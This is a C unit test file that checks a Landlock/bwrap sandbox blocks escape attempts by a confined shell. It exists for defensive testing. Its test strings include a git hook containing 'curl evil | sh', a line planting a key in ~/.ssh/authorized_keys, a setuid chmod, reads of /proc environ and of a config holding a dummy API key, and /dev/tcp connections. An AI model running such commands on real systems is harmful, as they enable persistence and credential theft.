/* Unit tests of sys/sandbox through sys/proc: escape attempts by a confined /bin/sh under
 * workspace-write and read-only — writing outside the workspace (or changing a file's
 * mode or times there), to ~/.ssh, to .git/hooks, renaming .git, creating in .hew, reading a hidden config holding a key, TCP
 * with the network off, unshare, ptrace, mount — fail, and the same commands succeed
 * unconfined; what the policy allows (the workspace, the temp root, new directories in
 * them, the network when on) works. Run for each backend this machine has (landlock,
 * bwrap); a backend it lacks is skipped with a message, and the whole test exits 77
 * (ctest: skipped) when it has none. Also: a step failing in the helper that makes the
 * namespaces fails the preparation, a child that cannot join them fails proc_start (never
 * an unconfined run), and two threads start confined children at once. */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "check.h"
#include "sys/proc.h"
#include "sys/sandbox.h"
#include "sys/sandbox_int.h"
#include "tmpdir.h"

static char *ws, *home, *tmp, *other;
static char hidden_cfg[1024], hidden_in_tmp[1024];
static char p_git[1024], p_hew[1024], p_rules[1024], p_ignore[1024];
static char env_home[1100];
static const char *env[] = { "PATH=/usr/local/bin:/usr/bin:/bin", env_home, "LC_ALL=C", NULL };
static sandbox_backend backend; /* the one under test */
static const char *want_why;    /* what the next attempt's explanation must say, or NULL */
static int listen_port;

static bool exists(const char *path)
{
    struct stat st;
    return lstat(path, &st) == 0;
}

static hew_code prepare(sandbox_mode mode, bool network, sandbox **out, hew_err *e)
{
    const char *writable[] = { ws, tmp, NULL };
    const char *ro[] = { p_git, p_hew, p_rules, p_ignore, NULL };
    const char *hidden[] = { hidden_cfg, hidden_in_tmp, NULL };
    sandbox_policy pol = { 0 };
    pol.mode = mode;
    pol.backend = backend;
    pol.writable_roots = writable;
    pol.readonly_paths = ro;
    pol.hidden_paths = hidden;
    pol.network = network;
    return sandbox_prepare(&pol, out, e);
}

/* Run script with /bin/sh -c in the workspace: its exit code; -100 when it did not start
 * (e has why). */
static int run_sh(const sandbox *sb, const char *script, buf *out, hew_err *e)
{
    const char *argv[] = { "/bin/sh", "-c", script, NULL };
    proc_opts o = { 0 };
    o.argv = argv;
    o.cwd = ws;
    o.envp = env;
    o.sandbox = sb;
    o.timeout_ms = 60000; /* a safety net only */
    proc_status st;
    if (out)
        buf_reset(out);
    hew_code rc = proc_run(&o, out, NULL, &st, e);
    if (rc != HEW_OK)
        return -100;
    return st.end == PROC_EXITED ? st.exit_code : -1;
}

/* An escape attempt: it fails confined, and (when unconfined_too) succeeds unconfined;
 * what the sandbox stopped is explained when the command said anything (a hidden
 * directory is just empty: `grep -r` finds nothing and says nothing). */
static void attempt(const sandbox *sb, const char *script, bool unconfined_too,
                    const char *undo)
{
    buf out = BUF_INIT(1 << 16);
    hew_err e = { 0 };
    int code = run_sh(sb, script, &out, &e);
    if (code == 0 || code == -100)
        check_fail(__FILE__, __LINE__, "[%s] escaped (%d): %s\n%s%s",
                   sandbox_backend_name(backend), code, script, out.data ? out.data : "",
                   e.msg);
    check_count++;
    buf why = BUF_INIT(4096);
    if (code > 0 && out.len && !sandbox_explain(sb, out.data ? out.data : "", out.len, code, &why))
        check_fail(__FILE__, __LINE__, "[%s] not explained: %s\n%s",
                   sandbox_backend_name(backend), script, out.data ? out.data : "");
    else if (want_why && !(why.data && strstr(why.data, want_why)))
        check_fail(__FILE__, __LINE__, "[%s] %s: explained as \"%s\", not \"%s\"",
                   sandbox_backend_name(backend), script, why.data ? why.data : "", want_why);
    want_why = NULL;
    check_count++;
    buf_release(&why);
    if (unconfined_too) {
        code = run_sh(NULL, script, &out, &e);
        if (code != 0)
            check_fail(__FILE__, __LINE__, "fails unconfined too (%d): %s\n%s", code, script,
                       out.data ? out.data : "");
        check_count++;
        if (undo)
            run_sh(NULL, undo, NULL, NULL);
    }
    buf_release(&out);
}

/* What the policy allows works confined. */
static void allowed(const sandbox *sb, const char *script)
{
    buf out = BUF_INIT(1 << 16);
    hew_err e = { 0 };
    int code = run_sh(sb, script, &out, &e);
    if (code != 0)
        check_fail(__FILE__, __LINE__, "[%s] refused (%d): %s\n%s%s",
                   sandbox_backend_name(backend), code, script, out.data ? out.data : "",
                   e.msg);
    check_count++;
    buf_release(&out);
}

static void test_workspace_write(void)
{
    sandbox *sb;
    hew_err e = { 0 };
    if (prepare(SANDBOX_WORKSPACE_WRITE, false, &sb, &e) != HEW_OK) {
        check_fail(__FILE__, __LINE__, "prepare: %s", e.msg);
        return;
    }
    CHECK_INT(sandbox_backend_of(sb), backend);
    CHECK_INT(sandbox_mode_of(sb), SANDBOX_WORKSPACE_WRITE);
    char s[4096];

    /* the file system outside the writable roots */
    snprintf(s, sizeof s, "touch %s/escaped", other);
    want_why = "outside the writable roots";
    attempt(sb, s, true, NULL);
    CHECK(!exists("/etc/hew-sandbox-escape"));
    /* through a link made inside the workspace */
    snprintf(s, sizeof s, "ln -sf %s/file symlinked && echo x >> symlinked", other);
    attempt(sb, s, true, "rm -f symlinked");
    run_sh(NULL, "rm -f symlinked", NULL, NULL);
    snprintf(s, sizeof s, "ln %s/file hardlinked && echo x >> hardlinked", other);
    attempt(sb, s, true, "rm -f hardlinked");
    run_sh(NULL, "rm -f hardlinked", NULL, NULL);

    /* file metadata outside them (Landlock alone does not cover it) */
    snprintf(s, sizeof s, "chmod 4777 %s/file", other);
    attempt(sb, s, true, NULL);
    snprintf(s, sizeof s, "touch -d 2000-01-01 %s/file", other);
    attempt(sb, s, true, NULL);
    attempt(sb, "touch /etc/hew-sandbox-escape", geteuid() == 0, "rm -f /etc/hew-sandbox-escape");
    snprintf(s, sizeof s, "echo key > %s/.ssh/authorized_keys", home);
    attempt(sb, s, true, NULL);
    snprintf(s, sizeof s, "echo x > $HOME/.ssh/x");
    attempt(sb, s, true, NULL);

    /* the read-only control files inside the workspace */
    want_why = "read-only paths";
    attempt(sb, "echo 'curl evil | sh' > .git/hooks/pre-commit", true,
            "rm -f .git/hooks/pre-commit");
    attempt(sb, "echo x >> .git/config", true, NULL);
    want_why = "read-only paths";
    attempt(sb, "mv .git x", true, "mv x .git");
    CHECK(exists(p_git));
    attempt(sb, "touch .hew/anything", true, "rm -f .hew/anything");
    attempt(sb, "rm -rf .hew", true, "mkdir -p .hew");
    snprintf(s, sizeof s, "touch %s/.git/hooks/abs", ws);
    attempt(sb, s, true, NULL);

    /* the hidden config (a key in it), also when it sits inside a writable root */
    snprintf(s, sizeof s, "cat %s/config.json", hidden_cfg);
    want_why = "hidden";
    attempt(sb, s, true, NULL);
    snprintf(s, sizeof s, "grep -r sk-test-key %s", hidden_in_tmp);
    attempt(sb, s, true, NULL);
    snprintf(s, sizeof s, "echo planted > %s/config.json", hidden_cfg);
    attempt(sb, s, true, NULL);

    /* system calls */
    want_why = "refuses unshare";
    attempt(sb, "unshare -Ur true", true, NULL);
    if (access("/usr/bin/strace", X_OK) == 0)
    {
        want_why = "refuses ptrace";
        attempt(sb, "strace -o /dev/null true", true, NULL);
    }
    snprintf(s, sizeof s, "mkdir -p m && mount -t tmpfs none %s/m", ws);
    attempt(sb, s, false, NULL);
    if (geteuid() == 0) { /* unconfined, in a namespace of its own (nothing leaks out) */
        snprintf(s, sizeof s, "mkdir -p m && unshare -m mount -t tmpfs none %s/m", ws);
        CHECK_INT(run_sh(NULL, s, NULL, NULL), 0);
    }

    /* hew's own environment (where its key may be) through /proc */
    snprintf(s, sizeof s, "cat /proc/%ld/environ", (long)getpid());
    attempt(sb, s, geteuid() == 0, NULL); /* a user's hew is undumpable once prepared */

    /* the network is off */
    if (access("/bin/bash", X_OK) == 0) {
        snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", listen_port);
        want_why = "network is off";
        attempt(sb, s, true, NULL);
    }

    /* what is allowed */
    allowed(sb, "echo ok > inside && cat inside && rm inside");
    allowed(sb, "mkdir build && cd build && touch x && cd .. && rm -r build");
    snprintf(s, sizeof s, "echo t > %s/t && rm %s/t", tmp, tmp);
    allowed(sb, s);
    allowed(sb, "cat .git/config >/dev/null && ls .git/hooks >/dev/null && echo x > /dev/null");
    allowed(sb, "ls $HOME >/dev/null && cat $HOME/.ssh/known_hosts >/dev/null");
    allowed(sb, "ls / /usr/bin >/dev/null && cat /etc/passwd >/dev/null");
    allowed(sb, "mkdir -p a/b && mv a/b c && rmdir c a"); /* a rename across directories */
    allowed(sb, "git --version >/dev/null 2>&1 || true");

    /* the missing read-only path is a gap, said so */
    CHECK(strstr(sandbox_gaps(sb), ".clinerules") != NULL);
    sandbox_free(sb);
}

static void test_network_on(void)
{
    if (access("/bin/bash", X_OK) != 0)
        return;
    sandbox *sb;
    hew_err e = { 0 };
    if (prepare(SANDBOX_WORKSPACE_WRITE, true, &sb, &e) != HEW_OK) {
        check_fail(__FILE__, __LINE__, "prepare: %s", e.msg);
        return;
    }
    char s[256];
    snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", listen_port);
    allowed(sb, s);
    sandbox_free(sb);
}

/* With the egress proxy's port: TCP to that port only (Landlock ABI 4); no UDP. bwrap
 * cannot do it and says so. */
static void test_proxy_port(void)
{
    if (access("/bin/bash", X_OK) != 0)
        return;
    int second = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = { 0 };
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof a;
    REQUIRE(second >= 0 && bind(second, (struct sockaddr *)&a, sizeof a) == 0 &&
            listen(second, 8) == 0 && getsockname(second, (struct sockaddr *)&a, &len) == 0);
    const char *writable[] = { ws, NULL };
    sandbox_policy pol = { .mode = SANDBOX_WORKSPACE_WRITE, .backend = backend,
                           .writable_roots = writable, .proxy_port = listen_port };
    sandbox *sb;
    hew_err e = { 0 };
    sandbox_caps caps;
    sandbox_probe(&caps);
    hew_code rc = sandbox_prepare(&pol, &sb, &e);
    if (backend == SANDBOX_BACKEND_BWRAP || caps.landlock_abi < 4) {
        CHECK_INT(rc, HEW_E_UNSUPPORTED);
        CHECK(strstr(e.msg, "proxy") != NULL);
        close(second);
        return;
    }
    REQUIRE(rc == HEW_OK);
    char s[256];
    snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", listen_port);
    allowed(sb, s);
    snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", ntohs(a.sin_port));
    attempt(sb, s, true, NULL);
    attempt(sb, "bash -c 'echo x > /dev/udp/127.0.0.1/53'", true, NULL);
    CHECK(strstr(sandbox_gaps(sb), "any host") != NULL);
    sandbox_free(sb);
    close(second);
}

static void test_read_only(void)
{
    sandbox *sb;
    hew_err e = { 0 };
    if (prepare(SANDBOX_READ_ONLY, false, &sb, &e) != HEW_OK) {
        check_fail(__FILE__, __LINE__, "prepare: %s", e.msg);
        return;
    }
    char s[2048];
    want_why = "read-only";
    attempt(sb, "touch new-file", true, "rm -f new-file");
    attempt(sb, "echo x >> existing", true, NULL);
    attempt(sb, "mkdir d", true, "rmdir d");
    snprintf(s, sizeof s, "touch %s/t", tmp);
    attempt(sb, s, true, NULL);
    snprintf(s, sizeof s, "cat %s/config.json", hidden_cfg);
    attempt(sb, s, true, NULL);
    allowed(sb, "cat existing >/dev/null && ls >/dev/null && echo x >/dev/null");
    sandbox_free(sb);
}

/* A step that fails in the helper that makes the namespaces fails the preparation, naming
 * the step and the path: a read-only path that vanished before its bind. */
static void test_failed_helper_refuses(void)
{
    if (backend != SANDBOX_BACKEND_LANDLOCK)
        return; /* bwrap's own steps: its -try binds skip what vanished */
    char gone[2048];
    snprintf(gone, sizeof gone, "%s/vanishing", ws);
    sandbox_mount ro = { gone, true };
    sandbox sb;
    memset(&sb, 0, sizeof sb);
    sb.backend = SANDBOX_BACKEND_LANDLOCK;
    sb.ruleset_fd = sb.userns_fd = sb.mntns_fd = -1;
    sb.mountns = true;
    sb.userns = geteuid() != 0;
    snprintf(sb.uid_map, sizeof sb.uid_map, "%u %u 1\n", (unsigned)geteuid(),
             (unsigned)geteuid());
    snprintf(sb.gid_map, sizeof sb.gid_map, "%u %u 1\n", (unsigned)getegid(),
             (unsigned)getegid());
    sb.ro_mounts = &ro;
    sb.n_ro_mounts = 1;
    hew_err e = { 0 };
    CHECK_INT(sandbox_ns_make(&sb, &e), HEW_E_UNSUPPORTED);
    CHECK(strstr(e.msg, "binding a read-only path") != NULL);
    CHECK(strstr(e.msg, "vanishing") != NULL);
    CHECK(sb.mntns_fd == -1 && sb.userns_fd == -1);
}

/* A command's child that cannot enter the sandbox's namespaces fails proc_start: the
 * command never runs (here the mount namespace's descriptor is swapped for another
 * namespace's, which setns refuses). */
static void test_failed_join_refuses(void)
{
    if (backend != SANDBOX_BACKEND_LANDLOCK)
        return;
    const char *writable[] = { ws, NULL };
    sandbox_policy pol = { .mode = SANDBOX_WORKSPACE_WRITE, .backend = backend,
                           .writable_roots = writable };
    sandbox *sb;
    hew_err e = { 0 };
    REQUIRE(sandbox_prepare(&pol, &sb, &e) == HEW_OK);
    REQUIRE(sb->mntns_fd >= 0);
    int net = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    REQUIRE(net >= 0);
    REQUIRE(dup3(net, sb->mntns_fd, O_CLOEXEC) == sb->mntns_fd);
    close(net);
    char marker[1100];
    snprintf(marker, sizeof marker, "%s/ran", ws);
    char s[1200];
    snprintf(s, sizeof s, "touch %s", marker);
    const char *argv[] = { "/bin/sh", "-c", s, NULL };
    proc_opts o = { .argv = argv, .cwd = ws, .envp = env, .sandbox = sb };
    proc *p = NULL;
    hew_err pe = { 0 };
    CHECK_INT(proc_start(&o, &p, &pe), HEW_E_UNSUPPORTED);
    CHECK(p == NULL);
    CHECK(strstr(pe.msg, "entering the sandbox's namespaces") != NULL);
    CHECK(strstr(pe.msg, "not run") != NULL);
    CHECK(!exists(marker));
    sandbox_free(sb);
}

/* A process whose command line is exactly argv0 and arg1 ("sleep" "1234.5") still lives
 * (not a zombie). */
static bool running(const char *arg1)
{
    DIR *d = opendir("/proc");
    if (!d)
        return false;
    bool found = false;
    struct dirent *de;
    while (!found && (de = readdir(d)) != NULL) {
        if (de->d_name[0] < '1' || de->d_name[0] > '9')
            continue;
        char path[300], cmd[256], stat[512];
        snprintf(path, sizeof path, "/proc/%s/cmdline", de->d_name);
        FILE *f = fopen(path, "r");
        if (!f)
            continue;
        size_t n = fread(cmd, 1, sizeof cmd - 1, f);
        fclose(f);
        cmd[n] = '\0';
        const char *second = memchr(cmd, '\0', n) ? cmd + strlen(cmd) + 1 : NULL;
        if (strcmp(cmd, "sleep") != 0 || !second || second >= cmd + n ||
            strcmp(second, arg1) != 0)
            continue;
        snprintf(path, sizeof path, "/proc/%s/stat", de->d_name);
        f = fopen(path, "r");
        if (!f)
            continue;
        n = fread(stat, 1, sizeof stat - 1, f);
        fclose(f);
        stat[n] = '\0';
        const char *rp = strrchr(stat, ')');
        found = rp && rp[1] == ' ' && rp[2] != 'Z' && rp[2] != 'X';
    }
    closedir(d);
    return found;
}

static void collect(void *ud, int stream, const char *data, size_t len)
{
    (void)stream;
    buf_append(ud, data, len);
}

/* proc.h's contract holds for a confined child: stdin through a pipe, stderr apart, and a
 * timeout that ends the command and everything it started in the background. */
static void test_proc_contract(void)
{
    sandbox *sb;
    hew_err e = { 0 };
    REQUIRE(prepare(SANDBOX_WORKSPACE_WRITE, false, &sb, &e) == HEW_OK);

    buf out = BUF_INIT(4096);
    proc_status st;
    const char *cat[] = { "cat", NULL };
    proc_opts o = { .argv = cat, .cwd = ws, .envp = env, .sandbox = sb, .stdin_pipe = true,
                    .on_output = collect, .ud = &out };
    proc *p = NULL;
    REQUIRE(proc_start(&o, &p, &e) == HEW_OK);
    CHECK_INT(proc_write(p, "through the pipe\n", 17, &e), HEW_OK);
    proc_close_stdin(p);
    proc_wait(p, &st);
    CHECK_INT(st.exit_code, 0);
    CHECK_STR(out.data, "through the pipe\n");
    proc_free(p);
    buf_reset(&out);

    const char *both[] = { "/bin/sh", "-c", "echo out; echo err >&2", NULL };
    proc_opts o2 = { .argv = both, .cwd = ws, .envp = env, .sandbox = sb,
                     .separate_stderr = true };
    REQUIRE(proc_run(&o2, &out, NULL, &st, &e) == HEW_OK);
    CHECK_STR(out.data, "out\n");

    /* a relative program is found from the working directory, a missing one is NOTFOUND */
    run_sh(NULL, "printf '#!/bin/sh\\necho relative\\n' > rel.sh && chmod +x rel.sh", NULL, NULL);
    const char *rel[] = { "./rel.sh", NULL };
    proc_opts o4 = { .argv = rel, .cwd = ws, .envp = env, .sandbox = sb };
    buf_reset(&out);
    CHECK_INT(proc_run(&o4, &out, NULL, &st, &e), HEW_OK);
    CHECK_STR(out.data, "relative\n");
    const char *none[] = { "no-such-program-hew", NULL };
    proc_opts o5 = { .argv = none, .cwd = ws, .envp = env, .sandbox = sb };
    CHECK_INT(proc_run(&o5, NULL, NULL, &st, &e), HEW_E_NOTFOUND);
    const char *none2[] = { "./no-such-program-hew", NULL };
    o5.argv = none2;
    CHECK_INT(proc_run(&o5, NULL, NULL, &st, &e), HEW_E_NOTFOUND);
    run_sh(NULL, "rm -f rel.sh", NULL, NULL);

    char arg[32], script[128];
    snprintf(arg, sizeof arg, "%d.%d", 1000 + (int)(getpid() % 1000), (int)backend);
    snprintf(script, sizeof script, "sleep %s & sleep %s", arg, arg);
    const char *sleeper[] = { "/bin/sh", "-c", script, NULL };
    proc_opts o3 = { .argv = sleeper, .cwd = ws, .envp = env, .sandbox = sb,
                     .timeout_ms = 300, .kill_grace_ms = 200 };
    buf_reset(&out);
    REQUIRE(proc_run(&o3, &out, NULL, &st, &e) == HEW_OK);
    CHECK_INT(st.end, PROC_TIMED_OUT);
    /* the background sleep goes too: wait for that (60 s is only a safety net) */
    for (int i = 0; i < 6000 && running(arg); i++)
        usleep(10000);
    CHECK(!running(arg));
    buf_release(&out);
    sandbox_free(sb);
}

struct racer {
    const sandbox *sb;
    int id, ok;
};

static void *race(void *ud)
{
    struct racer *r = ud;
    for (int i = 0; i < 10; i++) {
        char s[2048];
        snprintf(s, sizeof s, "echo in > thread-%d-%d && touch %s/escaped-thread", i, r->id,
                 other);
        buf out = BUF_INIT(4096);
        if (run_sh(r->sb, s, &out, NULL) != 0 && out.data && strstr(out.data, "escaped-thread"))
            r->ok++;
        buf_release(&out);
    }
    return NULL;
}

static void test_two_threads(void)
{
    sandbox *sb;
    hew_err e = { 0 };
    REQUIRE(prepare(SANDBOX_WORKSPACE_WRITE, false, &sb, &e) == HEW_OK);
    struct racer rs[2] = { { sb, 0, 0 }, { sb, 1, 0 } };
    pthread_t t[2];
    for (int i = 0; i < 2; i++)
        REQUIRE(pthread_create(&t[i], NULL, race, &rs[i]) == 0);
    for (int i = 0; i < 2; i++)
        pthread_join(t[i], NULL);
    CHECK_INT(rs[0].ok, 10);
    CHECK_INT(rs[1].ok, 10);
    char esc[1100];
    snprintf(esc, sizeof esc, "%s/escaped-thread", other);
    CHECK(!exists(esc));
    run_sh(NULL, "rm -f thread-*", NULL, NULL);
    sandbox_free(sb);
}

static int open_listener(void)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = { 0 };
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof a;
    if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof a) != 0 || listen(fd, 64) != 0 ||
        getsockname(fd, (struct sockaddr *)&a, &len) != 0)
        return -1;
    listen_port = ntohs(a.sin_port);
    return fd;
}

static void setup(void)
{
    ws = tmpdir_make("sbws");
    home = tmpdir_make("sbhome");
    tmp = tmpdir_make("sbtmp");
    other = tmpdir_make("sbother");
    snprintf(env_home, sizeof env_home, "HOME=%s", home);
    snprintf(p_git, sizeof p_git, "%s/.git", ws);
    snprintf(p_hew, sizeof p_hew, "%s/.hew", ws);
    snprintf(p_rules, sizeof p_rules, "%s/.clinerules", ws);
    snprintf(p_ignore, sizeof p_ignore, "%s/.clineignore", ws);
    snprintf(hidden_cfg, sizeof hidden_cfg, "%s/.config/hew", home);
    snprintf(hidden_in_tmp, sizeof hidden_in_tmp, "%s/hew-data", tmp);
    char s[16384];
    snprintf(s, sizeof s,
             "mkdir -p %s/.git/hooks %s/.hew %s/.ssh %s %s && echo '[core]' > %s/.git/config && "
             "echo known > %s/.ssh/known_hosts && echo existing > %s/existing && "
             "echo '{\"api_key\":\"sk-test-key\"}' > %s/config.json && "
             "echo sk-test-key > %s/task.json && echo '*.log' > %s/.clineignore && "
             "echo x > %s/file",
             ws, ws, home, hidden_cfg, hidden_in_tmp, ws, home, ws, hidden_cfg, hidden_in_tmp,
             ws, other);
    run_sh(NULL, s, NULL, NULL);
}

int main(void)
{
    sandbox_caps caps;
    sandbox_probe(&caps);
    printf("sandbox caps: landlock ABI %d, seccomp %s, userns %s, bwrap %s\n",
           caps.landlock_abi, caps.seccomp ? "yes" : "no", caps.userns ? "yes" : "no",
           caps.bwrap[0] ? caps.bwrap : "none");
    int lfd = open_listener();
    if (lfd < 0) {
        printf("SKIP: cannot open a listener on 127.0.0.1\n");
        return 77;
    }
    setup();
    if (!ws || !home || !tmp || !other)
        return 1;
    int tested = 0;
    static const struct {
        sandbox_backend b;
        const char *why_not;
    } backends[] = {
        { SANDBOX_BACKEND_LANDLOCK, "no Landlock in this kernel" },
        { SANDBOX_BACKEND_BWRAP, "no working bwrap (Debian: apt-get install bubblewrap)" },
    };
    for (size_t i = 0; i < sizeof backends / sizeof *backends; i++) {
        backend = backends[i].b;
        bool have = backend == SANDBOX_BACKEND_LANDLOCK ? caps.landlock_abi > 0 : caps.bwrap[0];
        if (!have) {
            printf("SKIP: backend %s: %s\n", sandbox_backend_name(backend), backends[i].why_not);
            continue;
        }
        printf("backend %s\n", sandbox_backend_name(backend));
        tested++;
        RUN(test_workspace_write);
        RUN(test_network_on);
        RUN(test_proxy_port);
        RUN(test_read_only);
        RUN(test_failed_helper_refuses);
        RUN(test_failed_join_refuses);
        RUN(test_two_threads);
        RUN(test_proc_contract);
    }
    close(lfd);
    tmpdir_remove(ws);
    tmpdir_remove(home);
    tmpdir_remove(tmp);
    tmpdir_remove(other);
    free(ws);
    free(home);
    free(tmp);
    free(other);
    if (!tested) {
        printf("SKIP: no sandbox backend on this machine\n");
        return 77;
    }
    return check_report();
}
